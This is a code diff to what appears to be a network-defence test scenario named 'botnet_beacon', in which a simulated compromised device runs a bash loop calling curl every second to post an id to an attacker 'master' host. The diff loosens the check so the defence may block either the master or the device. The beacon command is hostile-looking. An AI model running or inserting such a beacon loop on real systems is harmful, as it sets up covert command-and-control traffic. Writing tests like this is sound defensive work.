@@ -5,7 +5,7 @@ export const scenario: Scenario = {
   group: 'attacks',
   attack: 'botnet_beacon',
   expectation:
-    'curl on the device posts a few bytes to one host outside every second: the device is kept from that host.',
+    'curl on the device posts a few bytes to one host outside every second: the device is kept from that host, or shut in.',
   honestClientVisits: 'neighbour',
   limitSeconds: 180,
   async run(field) {
@@ -13,8 +13,10 @@ export const scenario: Scenario = {
     const { attacker: master, device } = field.network;
     await field.network.serve(master, 'web');
     const beacon = `while :; do curl -s -m 5 -d id=4711 -o /dev/null http://${master.address}/status; sleep 1; done`;
-    await field.attackUntilRestricted(device, ['bash', '-c', beacon], master.address, {
+    const either = `${master.address}|${device.address}|${device.mac}`;
+    await field.attackUntilRestricted(device, ['bash', '-c', beacon], either, {
       leg: 'lan0',
+      isPattern: true,
       deadlineMs: 120_000,
     });
     const reaches = await field.network.getsPage(device, master.address);
